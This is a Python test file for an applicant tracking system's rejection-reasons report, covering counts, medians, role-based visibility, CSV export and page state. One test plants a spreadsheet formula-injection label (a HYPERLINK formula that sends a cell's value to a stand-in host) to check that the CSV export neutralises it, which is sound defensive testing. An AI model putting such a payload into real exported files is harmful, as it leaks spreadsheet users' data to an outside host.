"""The rejection reasons report: counts and median days to the rejection notice, per project and across,
who may see which projects, the CSV file, its download route and the page's state."""

import csv
import io
from datetime import datetime, timedelta, timezone
from itertools import count

import pytest
from sqlmodel import select
from starlette.testclient import TestClient

from ats_app.accounts import auth
from ats_app.core.errors import ProjectNotFound
from ats_app.core.i18n import gettext
from ats_app.models import ApplicationEvent, Message, RejectionReason, RejectionType, Role
from ats_app.models import ApplicationStatus as S
from ats_app.models import MessageStatus as M
from ats_app.organisation.reference_data import ensure_reference_data
from ats_app.rejection.report import COLUMNS, NO_REASON, rejection_report, report_csv
from ats_app.rejection.ui.report_state import RejectionReportState
from ats_app.web.routes import api
from tests.unit.factories import login_as, make_application, make_department, make_project, make_user
from tests.unit.state_helpers import call, client, log_in, state_of

JAN = datetime(2026, 1, 1, tzinfo=timezone.utc)
FEB = datetime(2026, 2, 1, tzinfo=timezone.utc)
_keys = count()
REVIEW, FIRST = "after_application_review", "after_first_interview"
REQUIREMENT, BETTER = "requirement_not_met", "better_matched_candidates"


def _day(start: datetime, days: float) -> datetime:
    return start + timedelta(days=days)


def _reason(session, code: str, language: str) -> int:
    return session.exec(select(RejectionReason.id).where(RejectionReason.code == code,
                                                         RejectionReason.language == language)).one()


def _type(session, code: str) -> int:
    return session.exec(select(RejectionType.id).where(RejectionType.code == code)).one()


def _email(session, application, sent_at, status=M.SENT, purpose="rejection"):
    session.add(Message(application_id=application.id, purpose=purpose, recipient="kari@example.com",
                        status=status, sent_at=sent_at, idempotency_key=f"test-{next(_keys)}"))


def _event(session, application, at, to="rejected"):
    session.add(ApplicationEvent(application_id=application.id, project_id=application.project_id,
                                 kind="status_changed", payload={"from": "new", "to": to, "action": "reject"},
                                 created_at=at))


def _rejected(session, project, applied, type_code, reason=None, *, email_at=None, event_at=None, **fields):
    """A rejected application; reason is (code, language of the row it points to)."""
    application = make_application(
        session, project, S.REJECTED, first_name=f"P{next(_keys)}", applied_at=applied,
        rejection_type_id=_type(session, type_code) if type_code else None,
        rejection_reason_id=_reason(session, *reason) if reason else None, **fields)
    if email_at is not None:
        _email(session, application, email_at)
    if event_at is not None:
        _event(session, application, event_at)
    session.commit()
    return application


@pytest.fixture
def world(session):
    """Two departments' projects with rejections whose notice times are known to the hour."""
    ensure_reference_data(session)
    session.commit()
    engineering, sales = make_department(session), make_department(session, "Sales")
    make_user(session, language="nb")
    make_user(session, "manager@example.com", role=Role.HIRING_MANAGER, department_id=sales.id)
    recruiter = make_user(session, "recruiter@example.com", role=Role.RECRUITER, language="en")
    backend = make_project(session, "Backend developer", department=engineering, owner_id=recruiter.id)
    seller = make_project(session, "Key account manager", department=sales, owner_id=recruiter.id)

    # Backend: 3.5 days (the email counts, not the earlier event), 1.5 days (the latest change to rejected;
    # a bounced email and a queued one do not count), 10 days (a delivered email, no reason given).
    a1 = _rejected(session, backend, JAN, REVIEW, (REQUIREMENT, "nb"), email_at=_day(JAN, 3.5), event_at=_day(JAN, 1))
    a2 = _rejected(session, backend, JAN, REVIEW, (REQUIREMENT, "en"), event_at=_day(JAN, 0.5))
    _event(session, a2, _day(JAN, 1.5))
    _event(session, a2, _day(JAN, 4), to="invited")
    _email(session, a2, _day(JAN, 0.25), status=M.BOUNCED)
    _email(session, a2, None, status=M.QUEUED)
    _email(session, a2, _day(JAN, 0.3), purpose="general")
    a3 = _rejected(session, backend, JAN, FIRST, None)
    _email(session, a3, _day(JAN, 10), status=M.DELIVERED)
    # Left out: a deleted rejection, one moved to another project, and a live application.
    _rejected(session, backend, JAN, REVIEW, (REQUIREMENT, "en"), email_at=_day(JAN, 30),
              deleted_at=_day(JAN, 31))
    moved_to = make_application(session, seller, S.TRANSFERRED, first_name="Moved")
    _rejected(session, backend, JAN, FIRST, (BETTER, "en"), email_at=_day(JAN, 40), moved_to_id=moved_to.id)
    live = make_application(session, backend, S.NEW, first_name="Live", applied_at=JAN)
    _email(session, live, _day(JAN, 2))

    # Sales: 2.5 days, 5.5 days, and one without any notice time (counted, not in the median).
    _rejected(session, seller, FEB, REVIEW, (REQUIREMENT, "sv"), email_at=_day(FEB, 2.5))
    _rejected(session, seller, FEB, REVIEW, (BETTER, "sv"), event_at=_day(FEB, 5.5))
    _rejected(session, seller, FEB, REVIEW, (BETTER, "en"))
    session.commit()
    assert a1.id and a3.id
    return {"backend": backend, "seller": seller}


def _lines(report):
    return {(r.type_code, r.reason_code): (r.count, r.median_days) for r in report.rows}


def test_counts_and_medians_per_project(session, world):
    admin = login_as(session)
    backend = rejection_report(session, admin, world["backend"].id)
    assert _lines(backend) == {(REVIEW, REQUIREMENT): (2, 2.5), (FIRST, ""): (1, 10.0)}
    assert (backend.total, backend.median_days) == (3, 3.5)
    assert [(t.code, t.count, t.median_days) for t in backend.by_type] == [(REVIEW, 2, 2.5), (FIRST, 1, 10.0)]

    sales = rejection_report(session, admin, world["seller"].id)
    assert _lines(sales) == {(REVIEW, BETTER): (2, 5.5), (REVIEW, REQUIREMENT): (1, 2.5)}
    assert [r.reason_code for r in sales.rows] == [BETTER, REQUIREMENT]  # most first within a type
    assert (sales.total, sales.median_days) == (3, 4.0)


def test_counts_and_medians_across_projects(session, world):
    report = rejection_report(session, login_as(session), None)
    assert _lines(report) == {(REVIEW, REQUIREMENT): (3, 2.5), (REVIEW, BETTER): (2, 5.5), (FIRST, ""): (1, 10.0)}
    assert (report.total, report.median_days) == (6, 3.5)
    assert [(t.code, t.count, t.median_days) for t in report.by_type] == [(REVIEW, 5, 3.0), (FIRST, 1, 10.0)]
    assert [(t.code, t.count, t.median_days) for t in report.by_reason] == [
        (REQUIREMENT, 3, 2.5), (BETTER, 2, 5.5), ("", 1, 10.0)]
    assert [p.title for p in report.projects] == ["Backend developer", "Key account manager"]


def test_labels_are_in_the_users_language(session, world):
    report = rejection_report(session, login_as(session), None)  # the admin reads Norwegian
    labels = {(r.type_code, r.reason_code): (r.type_label, r.reason_label) for r in report.rows}
    assert labels[(REVIEW, REQUIREMENT)] == ("Etter vurdering av søknaden", "Oppfylte ikke kravene til stillingen")
    assert labels[(FIRST, "")][1] == gettext("nb", NO_REASON)
    english = rejection_report(session, login_as(session, "recruiter@example.com"), None)
    assert {r.reason_label for r in english.rows} == {
        "Did not meet the requirements of the position", "Other candidates matched the position more closely",
        "No reason given"}
    assert english.by_type[0].label == "After application review"


def test_reason_labels_fall_back_to_english_then_the_code(session, world):
    session.add(RejectionReason(code="budget_cut", language="en", label="The budget was cut"))
    session.add(RejectionReason(code="only_swedish", language="sv", label="Bara svenska"))
    session.commit()
    _rejected(session, world["seller"], FEB, REVIEW, ("budget_cut", "en"))
    _rejected(session, world["seller"], FEB, None, ("only_swedish", "sv"))
    report = rejection_report(session, login_as(session), world["seller"].id)
    labels = {r.reason_code: r.reason_label for r in report.rows}
    assert labels["budget_cut"] == "The budget was cut" and labels["only_swedish"] == "only_swedish"
    assert report.by_type[-1].code == "" and report.by_type[-1].count == 1  # no type: last


def test_a_hiring_manager_sees_only_their_departments_projects(session, world):
    manager = login_as(session, "manager@example.com")
    report = rejection_report(session, manager, None)
    assert [p.id for p in report.projects] == [world["seller"].id]
    assert _lines(report) == {(REVIEW, BETTER): (2, 5.5), (REVIEW, REQUIREMENT): (1, 2.5)}
    with pytest.raises(ProjectNotFound):
        rejection_report(session, manager, world["backend"].id)
    with pytest.raises(ProjectNotFound):
        rejection_report(session, login_as(session), 999999)


def test_an_empty_report(session):
    ensure_reference_data(session)
    make_user(session)
    report = rejection_report(session, login_as(session), None)
    assert (report.rows, report.total, report.median_days, report.by_reason) == ([], 0, None, [])
    assert report_csv(report, "en").splitlines() == ["\ufeff" + ",".join(COLUMNS)]


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_reads_back_with_a_bom_and_translated_header(session, world):
    report = rejection_report(session, login_as(session), None)
    text = report_csv(report, "nb")
    assert text.startswith("\ufeff") and text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"), newline="")))
    assert rows[0] == [gettext("nb", c) for c in COLUMNS]
    assert rows[1:] == [["Etter vurdering av søknaden", "Oppfylte ikke kravene til stillingen", "3", "2.5"],
                        ["Etter vurdering av søknaden", "Andre kandidater passet bedre til stillingen", "2", "5.5"],
                        ["Etter første intervju", gettext("nb", NO_REASON), "1", "10.0"]]
    assert "\r\n" in text


def test_csv_quotes_commas_and_quotes(session, world):
    session.add(RejectionReason(code="awkward", language="en", label='Too "senior", sadly'))
    session.commit()
    _rejected(session, world["seller"], FEB, REVIEW, ("awkward", "en"))
    text = report_csv(rejection_report(session, login_as(session, "recruiter@example.com"), None), "en")
    assert '"Too ""senior"", sadly"' in text
    assert ["After application review", 'Too "senior", sadly', "1", ""] in _parse(text.lstrip("\ufeff"))


def _client(session, email=None) -> TestClient:
    if email is None:
        return TestClient(api)
    return TestClient(api, cookies={auth.SESSION_COOKIE: auth.log_in(session, email, "demo")})


def test_csv_cells_never_start_a_formula(session, world):
    session.add(RejectionReason(code="formula", language="en", label='=HYPERLINK("http://x/?"&A1,"Other")'))
    session.commit()
    _rejected(session, world["seller"], FEB, REVIEW, ("formula", "en"))
    rows = _parse(report_csv(rejection_report(session, login_as(session, "recruiter@example.com"), None),
                             "en").lstrip("\ufeff"))
    assert ["After application review", '\'=HYPERLINK("http://x/?"&A1,"Other")', "1", ""] in rows


def test_the_csv_route_needs_a_recruiter(session, world):
    url = "/reports/rejections.csv"
    anonymous = _client(session).get(url)
    assert anonymous.status_code == 401 and "Rejection" not in anonymous.text
    manager = _client(session, "manager@example.com").get(url)
    assert manager.status_code == 403 and "Rejection" not in manager.text

    admin = _client(session, "admin@example.com")
    response = admin.get(url)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="rejection-reasons.csv"'
    assert "no-store" in response.headers["cache-control"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = _parse(response.content.decode("utf-8-sig"))
    assert len(rows) == 4 and rows[1][2:] == ["3", "2.5"]

    one = _parse(admin.get(url, params={"project_id": world["backend"].id}).content.decode("utf-8-sig"))
    assert [r[2:] for r in one[1:]] == [["2", "2.5"], ["1", "10.0"]]
    assert admin.get(url, params={"project_id": "abc"}).status_code == 400
    assert admin.get(url, params={"project_id": 999999}).status_code == 404


async def _logged_in(email: str):
    root = client()
    await log_in(root, email)
    return state_of(root, RejectionReportState)


async def test_the_page_state_shows_the_report_to_a_recruiter(session, world):
    state = await _logged_in("admin@example.com")
    await call(state, "load")
    assert not state.forbidden and state.total == 6 and state.median == "3,5"
    assert [(r.count, r.median) for r in state.rows] == [(3, "2,5"), (2, "5,5"), (1, "10,0")]
    assert [s["key"] for s in state.chart_series] == [REVIEW, FIRST]
    assert len(state.chart) == 3  # one row per reason, a count per type
    assert state.chart[0] == {"reason": "Oppfylte ikke kravene til stillingen", REVIEW: 3}
    assert state.export_href == "/reports/rejections.csv"
    assert [p.title for p in state.projects] == ["Backend developer", "Key account manager"]

    await call(state, "set_project", str(world["backend"].id))
    assert state.total == 3 and state.export_href == f"/reports/rejections.csv?project_id={world['backend'].id}"
    await call(state, "set_project", "not a project")
    assert state.project == "all" and state.total == 6
    await call(state, "set_project", "999999")
    assert state.project == "all" and state.total == 6


async def test_the_page_state_refuses_a_hiring_manager(session, world):
    state = await _logged_in("manager@example.com")
    await call(state, "load")
    assert state.forbidden and state.rows == [] and state.total == 0 and state.projects == []
    await call(state, "set_project", str(world["seller"].id))
    assert state.forbidden and state.rows == [] and state.chart == []
